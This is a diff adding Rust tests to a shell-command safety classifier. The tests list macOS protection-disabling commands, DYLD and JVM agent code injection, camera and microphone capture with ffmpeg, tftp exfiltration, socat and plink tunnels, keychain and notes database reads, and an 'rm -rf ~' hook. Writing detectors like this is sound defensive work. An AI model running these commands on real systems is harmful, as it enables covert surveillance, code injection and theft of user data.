@@ -103,3 +103,210 @@ fn find_handing_files_to_a_reader_changes_nothing() {
         Severity::High,
     );
 }
+
+/// htmac part 0: macOS's protections switched or unloaded in other
+/// spellings passed: `kextunload`, `spctl --global-enable` (and its
+/// rules), `csrutil enable --without debug`, `launchctl setenv`.
+#[test]
+fn macos_protection_switches_are_asked() {
+    flagged_each(
+        &[
+            "kextunload -b com.apple.driver.ExampleBundle",
+            "kextunload com.apple.iokit.IOReportFamily",
+            "spctl --global-enable",
+            "spctl --master-enable",
+            "spctl --enable",
+            "spctl --add --label Approved /tmp/x.app",
+            "csrutil enable --without debug",
+            "launchctl setenv SQLITE_AUTO_TRACE 1",
+            "launchctl setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib",
+            "defaults write com.apple.dock persistent-apps -array-add '<dict><key>tile-data</key></dict>'",
+        ],
+        Category::SelfEscalation,
+        Severity::Medium,
+    );
+    each(
+        &[
+            "spctl --status",
+            "spctl --assess -v /Applications/App.app",
+            "csrutil status",
+            "launchctl list",
+            "defaults write com.apple.dock autohide -bool true",
+        ],
+        "clean",
+    );
+}
+
+/// htmac part 0: clearing every extended attribute removes the quarantine
+/// mark too (`xattr -rc dumpBTM`); only `-d com.apple.quarantine` was
+/// known.
+#[test]
+fn clearing_extended_attributes_removes_quarantine() {
+    common::not_clean(&["xattr -rc dumpBTM", "xattr -cr App.app", "xattr -c tool"]);
+    each(
+        &["xattr -l a.txt", "xattr -w attrname vale /tmp/no-attr"],
+        "clean",
+    );
+}
+
+/// htmac part 0: the camera and the microphone recorded through ffmpeg's
+/// input devices passed (`ffmpeg -f avfoundation -i "0" ...`).
+#[test]
+fn camera_and_microphone_recordings_are_asked() {
+    flagged_each(
+        &[
+            "ffmpeg -framerate 30 -f avfoundation -i \"0\" -frames:v 1 /tmp/capture.jpg",
+            "ffmpeg -f avfoundation -i \":1\" -t 5 /tmp/recording.wav",
+            "ffmpeg -f v4l2 -i /dev/video0 out.mp4",
+            "imagesnap -w 1 shot.jpg",
+        ],
+        Category::CredentialAccess,
+        Severity::Medium,
+    );
+    each(
+        &[
+            "ffmpeg -i in.mp4 out.webm",
+            "ffmpeg -f concat -safe 0 -i list.txt -c copy out.mp4",
+        ],
+        "clean",
+    );
+}
+
+/// htmac part 0: the JVM's option variables load agents and run programs
+/// (`export _JAVA_OPTIONS='-javaagent:/tmp/Agent.jar'` passed).
+#[test]
+fn jvm_option_variables_load_code() {
+    flagged_each(
+        &[
+            "export _JAVA_OPTIONS='-javaagent:/tmp/Agent.jar'",
+            "export _JAVA_OPTIONS='-Xms2m -Xmx5m -XX:OnOutOfMemoryError=\"/tmp/payload.sh\"'",
+            "JAVA_TOOL_OPTIONS=-agentpath:/tmp/x.dylib java -jar app.jar",
+            "o='-javaagent:/tmp/a.jar'; JDK_JAVA_OPTIONS=\"$o\" java -jar app.jar",
+        ],
+        Category::Obfuscation,
+        Severity::High,
+    );
+    flagged_each(
+        &["export JAVA_TOOL_OPTIONS='-XX:OnError=\"rm -rf ~\"'"],
+        Category::Destructive,
+        Severity::High,
+    );
+    each(
+        &[
+            "export _JAVA_OPTIONS='-Xmx2g'",
+            "JAVA_TOOL_OPTIONS=-Dfile.encoding=UTF-8 mvn test",
+        ],
+        "clean",
+    );
+}
+
+/// htmac part 0: tftp's one-shot download (`tftp -i HOST get FILE`) was
+/// denied as a session that can upload; `put` still sends.
+#[test]
+fn tftp_get_downloads() {
+    each(
+        &[
+            "tftp -i KALI-IP get nc.exe",
+            "tftp 10.0.0.5 -c get firmware.bin",
+        ],
+        "clean",
+    );
+    flagged_each(
+        &[
+            "tftp -i 10.0.0.5 put secrets.txt",
+            "tftp 10.0.0.5",
+            "tftp 10.0.0.5 -c put a.txt",
+        ],
+        Category::Exfiltration,
+        Severity::High,
+    );
+}
+
+/// htmac part 0: data hidden in a macOS resource fork (`echo x >
+/// a.txt/..namedfork/rsrc`) passed; NTFS streams were known.
+#[test]
+fn resource_forks_hide_data() {
+    flagged_each(
+        &[
+            "echo \"Hello Mac ADS\" > a.txt/..namedfork/rsrc",
+            "cp payload.sh notes.txt/..namedfork/rsrc",
+        ],
+        Category::Obfuscation,
+        Severity::Medium,
+    );
+    each(&["ls -l@ a.txt", "xattr -l a.txt"], "clean");
+}
+
+/// htmac part 0: socat listening on a numbered address type
+/// (`TCP4-LISTEN:1234,fork SOCKS4A:127.0.0.1:google.com:80`) relayed a
+/// port to every network unseen; PuTTY's plink forwarding as ssh does
+/// (`plink.exe ... -R PORT:HOST:PORT`) passed.
+#[test]
+fn listeners_and_tunnels_in_other_spellings() {
+    flagged_each(
+        &[
+            "socat TCP4-LISTEN:1234,fork SOCKS4A:127.0.0.1:google.com:80,socksport=5678",
+            "socat UDP6-LISTEN:53,fork UDP:10.0.0.1:53",
+            "socat OPENSSL-LISTEN:443,cert=s.pem,fork TCP:127.0.0.1:80",
+            "echo y | plink.exe -l user -pw pass -R 8080:10.0.0.5:80 203.0.113.9",
+            "plink -D 1080 user@203.0.113.9",
+        ],
+        Category::Exfiltration,
+        Severity::Medium,
+    );
+    each(
+        &[
+            "socat TCP4-LISTEN:8080,bind=127.0.0.1,fork TCP:127.0.0.1:3000",
+            "socat - UNIX-CONNECT:/tmp/app.sock",
+        ],
+        "clean",
+    );
+}
+
+/// htmac part 0: an SMB share named `test` (`impacket-smbserver
+/// -smb2support -user test -password test test .`) was read as the `test`
+/// command handed on, and the server passed.
+#[test]
+fn file_server_operands_are_no_command() {
+    flagged_each(
+        &[
+            "impacket-smbserver -smb2support -user test -password test test `pwd`",
+            "impacket-smbserver -smb2support test .",
+        ],
+        Category::Exfiltration,
+        Severity::Medium,
+    );
+}
+
+/// htmac part 0: macOS's private stores read with a computed prefix
+/// (`strings $(getconf DARWIN_USER_DIR)/com.apple.notificationcenter/db2/db`)
+/// and keys read out of a memory image (`python vol.py ... keychaindump`)
+/// passed.
+#[test]
+fn macos_private_stores_and_memory_images() {
+    flagged_each(
+        &[
+            "strings $(getconf DARWIN_USER_DIR)/com.apple.notificationcenter/db2/db | grep -i -A4 slack",
+            "sqlite3 ~/Library/Group\\ Containers/group.com.apple.notes/NoteStore.sqlite .dump",
+            "python vol.py -i ~/Desktop/show/macosxml.mem -o keychaindump",
+        ],
+        Category::CredentialAccess,
+        Severity::Medium,
+    );
+}
+
+/// Found measuring this session's rows on the benign corpora: sox's `rec`
+/// named as a program made `asciinema rec -c 'CMD' f.cast` a microphone
+/// recording (the word is other tools' sub-command), and `csrutil netboot
+/// list` a change.
+#[test]
+fn recording_rows_do_not_read_sub_commands() {
+    each(
+        &[
+            "asciinema rec demo.cast",
+            "asciinema rec -q -c 'cargo tree --depth 1' /tmp/h.cast",
+            "csrutil netboot list",
+        ],
+        "clean",
+    );
+}
